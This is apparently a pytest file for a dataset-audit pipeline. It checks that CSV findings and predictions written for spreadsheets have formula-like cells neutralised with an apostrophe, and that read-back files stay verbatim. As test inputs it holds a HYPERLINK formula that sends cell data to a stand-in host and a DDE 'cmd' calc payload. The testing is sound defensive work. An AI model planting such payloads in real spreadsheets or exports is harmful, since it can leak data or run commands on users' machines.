"""CSV files people open in a spreadsheet (the audit's findings, predictions) carry no formula that the
spreadsheet would run; manifests the tool reads back (cleaned.csv) and audit.json stay verbatim."""

from __future__ import annotations

import csv
import json

import numpy as np

from pipeline.audit.runner import Audited, write_audit
from pipeline.inference.apply import write_predictions_csv
from pipeline.sheets import csv_text, formula_safe
from pipeline.tracking.runs import Registry

EVIL = '=HYPERLINK("http://x.example/?"&A1,"open")'


def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_do_not():
    for text in (EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"):
        assert formula_safe(text) == "'" + text
    for value in ("-1", "+0.5", "-1e-3", "daisy", "/data/=a.jpg", "", None, -0.25, 3):
        assert formula_safe(value) == value
    assert csv_text([("=1+1", "-1", 0.5)], ("a", "b", "c"), spreadsheet=True) == "a,b,c\n'=1+1,-1,0.5\n"
    assert csv_text([("=1+1", "-1", 0.5)], ("a", "b", "c")) == "a,b,c\n=1+1,-1,0.5\n"


def test_the_audit_findings_are_inert_in_a_spreadsheet_and_cleaned_csv_is_verbatim(tmp_path):
    names = [EVIL, "-1"]
    img = Audited(rows=np.arange(4), X=np.zeros((4, 2)), y=np.array([0, 0, 1, 1]),
                  paths=["@a.jpg", "b.jpg", "-c.jpg", "d.jpg"], splits=np.array(["train"] * 4), class_names=names)
    result = {"_images": img, "_cleaning": {
        "flagged_issues": [0], "outliers": [], "pairs": [], "suggested": [1, 0, 1, 1],
        "confidence": [0.6, 0.5, 0.5, 0.5], "given_probability": [0.3, 0.5, 0.5, 0.5]},
        "class_names": names, "counts": {"images": 4}, "duplicates": [], "top_losses": [],
        "outliers": [{"path": "-c.jpg", "split": "train", "label": "-1", "score": 4.0}],
        "label_issues": [{"path": "@a.jpg", "split": "train", "given": EVIL, "suggested": "-1", "score": 0.7}]}
    files = write_audit(result, Registry(tmp_path).start("audit", {}))
    issue = next(csv.DictReader(files["label_issues"].open(newline="", encoding="utf-8")))
    assert (issue["path"], issue["given"], issue["suggested"], issue["cleaned"]) == ("'@a.jpg", "'" + EVIL, "-1", "kept")
    outlier = next(csv.DictReader(files["outliers"].open(newline="", encoding="utf-8")))
    assert (outlier["path"], outlier["label"], outlier["score"]) == ("'-c.jpg", "-1", "4.0")
    # what the tool reads back keeps the user's names as they are
    assert list(csv.reader(files["cleaned"].open(newline="", encoding="utf-8")))[1:3] == [
        ["@a.jpg", EVIL, "train"], ["b.jpg", EVIL, "train"]]
    assert json.loads(files["audit"].read_text())["label_issues"][0]["given"] == EVIL


def test_predictions_are_inert_in_a_spreadsheet(tmp_path):
    out = tmp_path / "preds.csv"
    write_predictions_csv(out, ["=a.jpg", "b.jpg"], np.array([[0.9, 0.1], [0.2, 0.8]]), [EVIL, "-1"],
                          neighbours=[[("+n.jpg", 0.5)], [("m.jpg", -0.25)]], labels=[1, 0])
    rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
    assert rows[0] == ["path", "label", "prediction", "probability", "'" + EVIL, "-1", "neighbour_1", "similarity_1"]
    assert rows[1] == ["'=a.jpg", "-1", "'" + EVIL, "0.900000", "0.900000", "0.100000", "'+n.jpg", "0.5000"]
    assert rows[2] == ["b.jpg", "'" + EVIL, "-1", "0.800000", "0.200000", "0.800000", "m.jpg", "-0.2500"]
    assert b"\r\n" not in out.read_bytes()  # lines end as the audit's CSVs do
    write_predictions_csv(out, ["a\rb.jpg"], np.array([[0.9, 0.1]]), ["x", "y"])
    assert b'\n"a\rb.jpg",' in out.read_bytes()  # a lone carriage return is quoted, on every Python
    assert list(csv.reader(out.open(newline="", encoding="utf-8")))[1][0] == "a\rb.jpg"


def test_a_class_named_like_another_column_gets_its_own_column_name(tmp_path):
    """Classes 'path', 'prediction' and 'probability' made duplicate columns: a CSV reader keyed by name
    gave row['path'] == '0.999995'."""
    import csv

    out = tmp_path / "p.csv"
    write_predictions_csv(out, ["a.jpg"], np.array([[0.7, 0.2, 0.05, 0.05]]), ["path", "prediction", "p_path", "cat"],
                          labels=[0])
    [row] = list(csv.DictReader(out.open()))
    assert row["path"] == "a.jpg" and row["label"] == "path" and row["prediction"] == "path"
    assert list(row)[4:] == ["p_path", "p_prediction", "p_p_path", "cat"] and row["p_path"] == "0.700000"
